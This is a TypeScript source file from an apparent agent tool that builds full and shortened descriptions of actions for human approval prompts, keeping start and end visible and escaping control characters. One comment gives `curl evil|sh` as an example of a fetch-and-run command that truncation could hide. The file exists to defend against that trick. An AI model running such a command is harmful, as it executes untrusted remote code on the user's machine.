import { actionSpec } from './action-table.js';
import type { Action } from './action-schemas.js';

/**
 * The one describer of an action a person decides on (issue 27 item 3): the approval
 * prompt in the terminal, ACP permission requests and tool calls, MCP progress notes and
 * the HUD all say what runs with these two functions, so no surface can show less than
 * the others. (`describeAction` stays the short label of lists and logs; it cuts typed
 * text at 77 characters and commands at 117, so it must never stand for a decision:
 * `echo <117 harmless characters>; curl evil|sh` would show only the harmless part.)
 *
 *  - `describeWhole`: the whole action on one line — every character of a command, of
 *    text to type, of a value to set (a password's too: the person approving must see
 *    what goes in), of an MCP call's arguments — with every control and invisible
 *    character made visible (visible-text.ts: `\r` is "␍", ESC is "␛", U+202E is
 *    `\u{202E}`), so nothing in it can rewrite a terminal line or reorder what is shown.
 *  - `shortTitle`: for a surface that has room for one short line only (an ACP title, the
 *    HUD). It is `describeWhole` when that fits; otherwise its start and its end with the
 *    cut said between them ("…[312 chars cut]…"), because what runs last is as
 *    telling as what runs first. A surface that shows a short title carries the whole
 *    description as well (the ACP request's content, the HUD's tooltip).
 */

/** The whole action in one line, controls and invisible characters made visible (each kind's `whole` in action-table.ts). */
export function describeWhole(action: Action): string {
  return actionSpec(action).whole(action);
}

/** Shortest title that still shows a start, an end and the cut (the cut alone is ~17 characters). */
const MIN_TITLE = 40;

/**
 * `describeWhole` in at most `max` characters (code points; at least MIN_TITLE): whole when
 * it fits, else its start and end around "…[N chars cut]…", each half of the room.
 */
export function shortTitle(action: Action, max = 160): string {
  const whole = [...describeWhole(action)];
  const limit = Math.max(max, MIN_TITLE);
  if (whole.length <= limit) return whole.join('');
  // The marker's length depends on the number it says, which depends on the room it leaves:
  // start from the largest number and shrink until they agree (the cut only gets smaller).
  let marker = cutMarker(whole.length);
  let room = limit - marker.length;
  while (cutMarker(whole.length - room).length !== marker.length) {
    marker = cutMarker(whole.length - room);
    room = limit - marker.length;
  }
  const tail = Math.floor(room / 2);
  const head = room - tail;
  return `${whole.slice(0, head).join('')}${cutMarker(whole.length - room)}${whole.slice(whole.length - tail).join('')}`;
}

function cutMarker(cut: number): string {
  return `…[${cut} chars cut]…`;
}
